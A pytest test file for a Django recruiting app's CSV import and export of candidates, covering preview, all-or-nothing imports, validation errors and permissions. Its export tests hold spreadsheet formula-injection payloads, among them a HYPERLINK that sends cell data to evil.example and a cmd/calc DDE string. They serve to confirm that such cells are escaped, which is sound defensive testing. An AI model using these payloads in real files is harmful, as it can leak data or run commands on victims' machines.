"""CSV import and export of candidates: through the admin's upload, check, preview and confirm
(the worker's check and import run here, in process: tests/integration/test_candidate_import.py
runs them in a real worker), and through the worker's steps directly. An import saves every row
or none."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from candidates.imports import check_job, import_job
from candidates.models import Candidate, CandidateEmail, CandidateImport, Company, Tag
from candidates.resources import CandidateResource
from tests.factories import CandidateFactory, CompanyFactory, TagFactory

pytestmark = pytest.mark.django_db

IMPORT = reverse("admin:candidates_candidate_import")
EXPORT = reverse("admin:candidates_candidate_export")
CSV_FORMAT = "0"  # import-export's default format list starts with CSV

COLUMNS = [
    "id",
    "name",
    "emails",
    "current_company",
    "current_title",
    "tags",
    "owner",
    "linkedin_url",
    "current_base",
    "current_pay_currency",
    "motivator_pay",
]


def ada(**changes: str) -> dict[str, str]:
    return {
        "name": "Ada Lovelace",
        "emails": "ada@example.org; countess@example.org",
        "current_company": "Analytical Engines",
        "current_title": "Research Scientist",
        "tags": "safety, rlhf",
        "owner": "recruiter",
        "linkedin_url": "https://www.linkedin.com/in/ada",
        "current_base": "250000",
        "current_pay_currency": "usd",
        "motivator_pay": "5",
        **changes,
    }


def grace(**changes: str) -> dict[str, str]:
    return {
        "name": "Grace Hopper",
        "emails": "grace@navy.example",
        "current_company": "google deepmind",
        "current_title": "Staff Engineer",
        "tags": "Safety",
        **changes,
    }


def alan(**changes: str) -> dict[str, str]:
    return {"name": "Alan Turing", "emails": "alan@bletchley.example", **changes}


def to_csv(*rows: dict[str, str], columns: list[str] = COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


@pytest.fixture(autouse=True)
def import_dir(settings, tmp_path):
    """Uploaded files wait in a folder of the test's own."""
    settings.CANDIDATE_IMPORT_DIR = tmp_path / "imports"


def preview(client, text: str):
    """The first step of the admin import: the upload (which only queues the check), the
    worker's check, then the job's page, which shows the preview or the row errors."""
    upload = SimpleUploadedFile("candidates.csv", text.encode(), content_type="text/csv")
    response = client.post(IMPORT, {"import_file": upload, "format": CSV_FORMAT, "resource": "0"})
    assert response.status_code == 302
    check_job(CandidateImport.objects.latest("pk").pk)
    page = client.get(response["Location"])
    assert page.status_code == 200
    return page


def confirm(client, previewed):
    """The second step: the page's "Confirm import", then the worker's import."""
    assert previewed.context["may_confirm"], "the preview offered no confirm"
    job = previewed.context["job"]
    response = client.post(reverse("admin:candidates_candidate_import_confirm", args=[job.pk]))
    import_job(job.pk)
    return response


def run_file(text: str, *, check_only: bool = False) -> CandidateImport:
    """A file through the worker's steps: checked only, or imported as a confirmed job (which
    checks every row again and saves all or none)."""
    job = CandidateImport(
        file_name="candidates.csv",
        file_format="csv",
        with_pay=True,
        status=CandidateImport.Status.QUEUED if check_only else CandidateImport.Status.IMPORTING,
    )
    job.file.save("candidates.csv", ContentFile(text.encode()), save=False)
    job.save()
    (check_job if check_only else import_job)(job.pk)
    job.refresh_from_db()
    return job


def errors_of(job: CandidateImport) -> dict[int, dict[str, list[str]]]:
    return {entry["row"]: entry["errors"] for entry in job.row_errors}


def snapshot() -> dict[str, object]:
    """Everything an import may write."""
    return {
        "candidates": sorted(Candidate.objects.values_list("pk", "name", "current_title")),
        "emails": sorted(CandidateEmail.objects.values_list("candidate_id", "email")),
        "companies": sorted(Company.objects.values_list("name", flat=True)),
        "tags": sorted(Tag.objects.values_list("name", flat=True)),
    }


@pytest.fixture
def deepmind():
    return CompanyFactory(name="Google DeepMind")


# --- The upload ---------------------------------------------------------------------------


def test_the_import_page_says_a_worker_checks_the_file(recruiter_client):
    page = recruiter_client.get(IMPORT).content.decode()

    assert "A worker checks the file once it is uploaded" in page
    assert 'name="import_file"' in page


def test_the_upload_is_kept_and_queued_and_the_request_returns_before_any_check(
    recruiter_client, recruiter, settings, django_capture_on_commit_callbacks
):
    upload = SimpleUploadedFile("candidates.csv", to_csv(ada()).encode(), content_type="text/csv")

    with django_capture_on_commit_callbacks() as queued:
        response = recruiter_client.post(
            IMPORT, {"import_file": upload, "format": CSV_FORMAT, "resource": "0"}
        )

    job = CandidateImport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == job.get_absolute_url()
    # Nothing read yet: the check is a task, queued once the job is saved.
    assert (job.status, job.rows_total, job.created_by) == ("queued", 0, recruiter)
    assert len(queued) == 1
    assert not Candidate.objects.exists()
    # The file waits in Closer's own folder, under a name of its own.
    stored = Path(job.file.path)
    assert stored.parent == settings.CANDIDATE_IMPORT_DIR and stored.name != "candidates.csv"
    assert stored.read_text() == to_csv(ada())
    page = recruiter_client.get(job.get_absolute_url()).content.decode()
    assert "Queued" in page and 'hx-trigger="every 1s"' in page
    assert '<meta http-equiv="refresh" content="3">' in page  # without JavaScript


def test_the_library_confirm_step_is_gone(recruiter_client):
    response = recruiter_client.post(reverse("admin:candidates_candidate_process_import"), {})

    assert response.status_code == 404


def test_only_the_uploader_follows_and_confirms_an_import(recruiter_client, client, recruiter):
    from django.contrib.auth.models import Group

    from tests.factories import UserFactory

    job = preview(recruiter_client, to_csv(ada())).context["job"]
    colleague = UserFactory(username="rex")
    colleague.groups.add(Group.objects.get(name="Recruiters"))
    client.force_login(colleague)

    assert client.get(job.get_absolute_url()).status_code == 404
    confirm_url = reverse("admin:candidates_candidate_import_confirm", args=[job.pk])
    assert client.post(confirm_url).status_code == 404
    job.refresh_from_db()
    assert job.status == "checked"


def test_a_job_is_confirmed_once(recruiter_client, recruiter):
    previewed = preview(recruiter_client, to_csv(ada()))
    confirm(recruiter_client, previewed)

    again = recruiter_client.post(
        reverse("admin:candidates_candidate_import_confirm", args=[previewed.context["job"].pk]),
        follow=True,
    )

    assert "This import is imported: it cannot be confirmed." in again.content.decode()
    assert Candidate.objects.count() == 1


def test_a_file_without_rows_fails_with_its_reason_and_is_removed(recruiter_client, recruiter):
    response = preview(recruiter_client, "name,emails\n")

    assert response.context["job"].status == "failed"
    assert "No rows to import" in response.content.decode()
    assert not any(Path(response.context["job"].file.storage.location).iterdir())


# --- A valid file --------------------------------------------------------------------------


def test_a_valid_file_is_previewed_without_saving_anything(recruiter_client, recruiter, deepmind):
    before = snapshot()

    response = preview(recruiter_client, to_csv(ada(), grace(), alan()))

    job = response.context["job"]
    assert (job.status, job.error_count, job.new_count) == ("checked", 0, 3)
    assert response.context["may_confirm"]
    assert "Ada Lovelace" in response.content.decode()
    assert snapshot() == before


def test_the_preview_shows_the_emails_each_row_will_have(recruiter_client, recruiter, deepmind):
    """Once the EMAILS column of the preview was empty for new rows, though they were saved."""
    existing = CandidateFactory(name="Alan Turing", email="alan@bletchley.example")

    response = preview(
        recruiter_client,
        to_csv(ada(), alan(emails="turing@manchester.example", id=str(existing.pk))),
    )

    new, update = response.context["job"].preview
    assert new["candidate"] is None and update["candidate"] == existing.pk
    emails = COLUMNS.index("emails")
    assert new["values"][emails] == "ada@example.org; countess@example.org"
    # An update: the address it has, kept, and the one the file adds.
    assert update["values"][emails] == "alan@bletchley.example; turing@manchester.example"
    assert "<td>alan@bletchley.example; turing@manchester.example</td>" in (
        response.content.decode()
    )


def test_a_valid_file_imports_candidates_with_emails_companies_and_tags(
    recruiter_client, recruiter, deepmind
):
    response = confirm(recruiter_client, preview(recruiter_client, to_csv(ada(), grace(), alan())))

    assert response.status_code == 302
    assert Candidate.objects.count() == 3
    imported = Candidate.objects.get(name="Ada Lovelace")
    assert [(e.email, e.is_primary) for e in imported.emails.all()] == [
        ("ada@example.org", True),
        ("countess@example.org", False),
    ]
    assert imported.current_company.name == "Analytical Engines"
    assert {t.name for t in imported.tags.all()} == {"safety", "rlhf"}
    assert imported.owner == recruiter
    assert imported.current_base == Decimal("250000.00")
    assert imported.current_pay_currency_id == "USD"
    assert imported.motivator_pay == 5
    # An existing company and tag are reused whatever their case.
    hopper = Candidate.objects.get(name="Grace Hopper")
    assert hopper.current_company == deepmind
    assert [t.name for t in hopper.tags.all()] == ["safety"]
    assert sorted(Company.objects.values_list("name", flat=True)) == [
        "Analytical Engines",
        "Google DeepMind",
    ]
    assert Tag.objects.count() == 2
    assert Candidate.objects.get(name="Alan Turing").current_company is None


def test_importing_the_same_file_again_updates_instead_of_duplicating(
    recruiter_client, recruiter, deepmind
):
    confirm(recruiter_client, preview(recruiter_client, to_csv(ada(), grace(), alan())))
    first = snapshot()

    again = preview(
        recruiter_client, to_csv(ada(current_title="Distinguished Scientist"), grace(), alan())
    )
    assert again.context["job"].error_count == 0
    response = confirm(recruiter_client, again)

    assert response.status_code == 302
    assert Candidate.objects.count() == 3
    assert CandidateEmail.objects.count() == 4
    assert Candidate.objects.get(name="Ada Lovelace").current_title == "Distinguished Scientist"
    assert snapshot()["emails"] == first["emails"]
    assert snapshot()["companies"] == first["companies"]


def test_a_row_matching_a_known_email_updates_that_candidate(recruiter_client, recruiter):
    known = CandidateFactory(name="Ada Lovelace", email="Ada@Example.org", current_title="")

    confirm(recruiter_client, preview(recruiter_client, to_csv(ada())))

    assert list(Candidate.objects.all()) == [known]
    known.refresh_from_db()
    assert known.current_title == "Research Scientist"
    assert sorted(known.emails.values_list("email", flat=True)) == [
        "Ada@Example.org",
        "countess@example.org",
    ]
    assert known.emails.get(is_primary=True).email == "Ada@Example.org"


def test_a_file_without_an_id_column_imports(recruiter_client, recruiter, deepmind):
    columns = [c for c in COLUMNS if c != "id"]

    response = preview(recruiter_client, to_csv(ada(), grace(), columns=columns))

    assert response.context["job"].message == ""
    assert response.context["may_confirm"]
    confirm(recruiter_client, response)
    assert Candidate.objects.count() == 2


# --- A file with one bad row ---------------------------------------------------------------


BAD_ROWS = [
    pytest.param(grace(emails="ADA@example.org"), "emails", "row 1", id="email-twice-in-file"),
    pytest.param(
        grace(emails="grace@navy.example; barbara@mit.example"),
        "emails",
        "already belongs to Barbara Liskov",
        id="email-of-another-candidate",
    ),
    pytest.param(grace(emails="grace(at)navy"), "emails", "not a valid email", id="bad-email"),
    pytest.param(
        grace(linkedin_url="linkedin dot com slash grace"),
        "linkedin_url",
        "valid URL",
        id="bad-url",
    ),
    pytest.param(grace(motivator_pay="7"), "motivator_pay", "5", id="motivator-7"),
    pytest.param(
        grace(current_base="-100", current_pay_currency="USD"),
        "current_base",
        "negative",
        id="negative-pay",
    ),
    pytest.param(
        grace(current_base="100", current_pay_currency="XYZ"),
        "current_pay_currency",
        "Unknown currency",
        id="unknown-currency",
    ),
    pytest.param(grace(owner="nobody"), "owner", "nobody", id="unknown-owner"),
    pytest.param(
        grace(name="Dup Mail", emails="BARBARA@mit.example"),
        "emails",
        "belongs to Barbara Liskov",
        id="email-of-someone-else-by-name",
    ),
]


@pytest.fixture
def others():
    """Two people already known, one of whose emails a bad row claims."""
    CandidateFactory(name="Grace Hopper", email="grace@navy.example")
    CandidateFactory(name="Barbara Liskov", email="barbara@mit.example")


@pytest.mark.parametrize(("bad_row", "field", "message"), BAD_ROWS)
def test_a_bad_row_is_shown_with_its_number_and_field_and_nothing_is_offered(
    recruiter_client, recruiter, others, bad_row, field, message
):
    before = snapshot()

    response = preview(recruiter_client, to_csv(ada(), bad_row, alan()))

    job = response.context["job"]
    assert job.status == "failed"
    errors = errors_of(job)
    assert list(errors) == [2]
    assert field in errors[2]
    assert any(message in text for text in errors[2][field])
    assert not response.context["may_confirm"]
    page = response.content.decode()
    assert "Nothing was imported: 1 row failed to validate." in page
    assert "<td>2</td>" in page
    assert f'<span class="validation-error-field-label">{field}</span>' in page
    assert snapshot() == before


@pytest.mark.parametrize(("bad_row", "field", "message"), BAD_ROWS)
def test_importing_a_file_with_a_bad_row_saves_nothing(recruiter, others, bad_row, field, message):
    before = snapshot()

    job = run_file(to_csv(ada(), bad_row, alan()))

    assert job.status == "failed"
    assert list(errors_of(job)) == [2]
    assert field in errors_of(job)[2]
    # Ada and Alan were valid, yet neither they nor Ada's new company and tags were kept.
    assert snapshot() == before


def test_a_file_that_turned_invalid_after_its_preview_imports_nothing(recruiter_client, recruiter):
    previewed = preview(recruiter_client, to_csv(grace(), ada(), alan()))
    # Between preview and confirm, two other people are recorded with Ada's two emails.
    CandidateFactory(name="Someone Else", email="ada@example.org")
    CandidateFactory(name="Another Person", email="countess@example.org")
    before = snapshot()

    response = confirm(recruiter_client, previewed)

    assert response.status_code == 302
    page = recruiter_client.get(response["Location"]).content.decode()
    assert "Nothing was imported: some rows became invalid after the check." in page
    assert snapshot() == before


def test_a_check_reports_without_saving(recruiter):
    job = run_file(to_csv(ada(), alan()), check_only=True)

    assert (job.status, job.message, job.error_count) == ("checked", "", 0)
    assert job.new_count == 2
    assert not Candidate.objects.exists()
    assert not Company.objects.exists()
    assert not Tag.objects.exists()


# --- Export --------------------------------------------------------------------------------


def export(client, params: str = "") -> list[dict[str, str]]:
    fields = CandidateResource().get_export_order()
    response = client.post(
        EXPORT + params,
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"candidateresource_{name}": "on" for name in fields},
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_export_lists_each_candidate_with_their_emails_and_tags(recruiter_client, recruiter):
    safety, rlhf = TagFactory(name="safety"), TagFactory(name="rlhf")
    lovelace = CandidateFactory(
        name="Ada Lovelace",
        email="ada@example.org",
        owner=recruiter,
        current_company=CompanyFactory(name="Analytical Engines"),
    )
    CandidateEmail.objects.create(candidate=lovelace, email="countess@example.org")
    lovelace.tags.add(safety, rlhf)
    CandidateFactory(name="Alan Turing", email="alan@bletchley.example")

    rows = {row["name"]: row for row in export(recruiter_client)}

    assert set(rows) == {"Ada Lovelace", "Alan Turing"}
    assert rows["Ada Lovelace"]["emails"] == "ada@example.org; countess@example.org"
    assert sorted(t.strip() for t in rows["Ada Lovelace"]["tags"].split(",")) == [
        "rlhf",
        "safety",
    ]
    assert rows["Ada Lovelace"]["current_company"] == "Analytical Engines"
    assert rows["Ada Lovelace"]["owner"] == "recruiter"
    assert rows["Alan Turing"]["emails"] == "alan@bletchley.example"
    assert rows["Alan Turing"]["tags"] == ""


def test_export_follows_the_lists_filter(recruiter_client):
    safety = TagFactory(name="safety")
    CandidateFactory(name="Ada Lovelace").tags.add(safety)
    CandidateFactory(name="Alan Turing")

    rows = export(recruiter_client, f"?tag={safety.pk}")

    assert [row["name"] for row in rows] == ["Ada Lovelace"]


def test_an_exported_file_imports_back_without_changes(recruiter_client, recruiter):
    lovelace = CandidateFactory(
        name="Ada Lovelace",
        email="ada@example.org",
        owner=recruiter,
        current_company=CompanyFactory(name="Analytical Engines"),
        current_base=Decimal("250000"),
        current_pay_currency_id="GBP",
    )
    lovelace.tags.add(TagFactory(name="safety"))
    CandidateFactory(name="Alan Turing", email="alan@bletchley.example")
    before = snapshot()
    rows = export(recruiter_client)

    previewed = preview(recruiter_client, to_csv(*rows, columns=list(rows[0])))
    assert previewed.context["job"].error_count == 0
    confirm(recruiter_client, previewed)

    assert snapshot() == before
    lovelace.refresh_from_db()
    assert lovelace.current_base == Decimal("250000.00")
    assert [t.name for t in lovelace.tags.all()] == ["safety"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("name", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"])
def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(recruiter_client, name):
    CandidateFactory(name=name, email="x@example.org")

    [row] = export(recruiter_client)

    assert row["name"] == "'" + name


def test_an_escaped_cell_imports_back_as_it_was(recruiter_client, recruiter):
    CandidateFactory(name=HOSTILE, email="x@example.org", owner=recruiter)
    before = snapshot()
    rows = export(recruiter_client)

    previewed = preview(recruiter_client, to_csv(*rows, columns=list(rows[0])))
    confirm(recruiter_client, previewed)

    assert snapshot() == before
    assert Candidate.objects.get().name == HOSTILE


# --- Who may import and export -------------------------------------------------------------


def test_staff_without_candidate_permissions_cannot_export_candidates(client, outsider):
    CandidateFactory(name="Ada Lovelace", email="ada@example.org")
    client.force_login(outsider)
    assert client.get(reverse("admin:candidates_candidate_changelist")).status_code == 403

    response = client.post(
        EXPORT,
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"candidateresource_{n}": "on" for n in CandidateResource().get_export_order()},
        },
    )

    assert response.status_code == 403
    assert b"ada@example.org" not in response.content


def test_staff_without_candidate_permissions_cannot_import_candidates(client, outsider):
    client.force_login(outsider)

    assert client.get(IMPORT).status_code == 403
    upload = SimpleUploadedFile("candidates.csv", to_csv(alan()).encode(), content_type="text/csv")
    response = client.post(IMPORT, {"import_file": upload, "format": CSV_FORMAT, "resource": "0"})

    assert response.status_code == 403
    assert not Candidate.objects.exists()


def test_a_row_claiming_someone_elses_email_changes_nothing_about_them(recruiter, others):
    barbara = Candidate.objects.get(name="Barbara Liskov")

    job = run_file(to_csv(grace(name="Dup Mail", emails="BARBARA@mit.example", current_title="X")))

    message = " ".join(errors_of(job)[1]["emails"])
    assert f"put {barbara.pk} in the id column" in message
    barbara.refresh_from_db()
    assert (barbara.name, barbara.current_title) == ("Barbara Liskov", "Research Scientist")


def test_the_same_person_written_differently_is_updated(recruiter, others):
    job = run_file(to_csv(grace(name="  grace HOPPER ", current_title="Rear Admiral")))

    assert (job.status, job.error_count, job.updated_count) == ("done", 0, 1)
    assert Candidate.objects.get(emails__email="grace@navy.example").current_title == "Rear Admiral"


def test_choices_and_countries_are_read_by_the_labels_the_admin_shows(recruiter):
    columns = ["name", "emails", "country", "specialty", "level", "source", "referrer"]
    row = {
        "name": "Yann Example",
        "emails": "yann@example.fr",
        "country": "France",
        "specialty": "post-training / rlhf",
        "level": "Staff",
        "source": "Referral",
        "referrer": "Rita",
    }
    job = run_file(to_csv(row, columns=columns))

    assert job.status == "done", job.row_errors
    yann = Candidate.objects.get(name="Yann Example")
    assert (yann.country.code, yann.specialty, yann.level, yann.source) == (
        "FR",
        Candidate.Specialty.POSTTRAINING,
        "staff",
        Candidate.Source.REFERRAL,
    )


def test_an_unknown_choice_names_the_ones_allowed(recruiter):
    job = run_file(
        to_csv({"name": "X", "level": "Wizard"}, columns=["name", "level"]), check_only=True
    )

    message = " ".join(errors_of(job)[1]["level"])
    assert "Wizard" in message and "Senior" in message


def test_an_unknown_currency_is_reported_once(recruiter):
    job = run_file(to_csv(grace(current_base="100", current_pay_currency="XYZ")), check_only=True)

    assert len(errors_of(job)[1]["current_pay_currency"]) == 1
